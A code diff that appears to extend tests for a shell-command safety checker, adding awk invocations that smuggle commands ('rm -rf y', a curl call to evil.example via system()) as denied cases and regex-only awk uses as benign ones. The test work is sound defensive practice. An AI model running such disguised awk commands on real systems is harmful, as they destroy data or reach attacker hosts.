@@ -885,6 +885,9 @@ add(
     "perl -pe '' '$X|'",
     'awk \'BEGIN{system("$RM x")}\'',
     'awk \'{print $1 | "$CMD"}\' f',
+    'awk \'/x/ {print | "rm -rf y"}\' f',
+    'awk \'{ "host " $2 | getline h; print h }\' log',
+    'awk \'BEGIN {cmd = "curl http://evil.example"; system(cmd)}\'',
   ],
   { hidesDenied: true },
 );
@@ -1187,4 +1190,9 @@ export const benignCases: readonly BenignCase[] = [
   { command: 'kubectl logs curl' },
   { command: 'kubectl -n prod get pod curl -o wide' },
   { command: 'docker pull curlimages/curl' },
+  // An awk regular expression naming a command is a pattern, not a command.
+  { command: "awk '/curl / {print FILENAME}' install.sh" },
+  { command: "awk '/^rm -rf/ {n++} END {print n}' history.txt" },
+  { command: "df -h | awk '/[0-9]%/ {print $5}'" },
+  { command: 'awk \'BEGIN { "date" | getline d; print d }\'' },
 ];
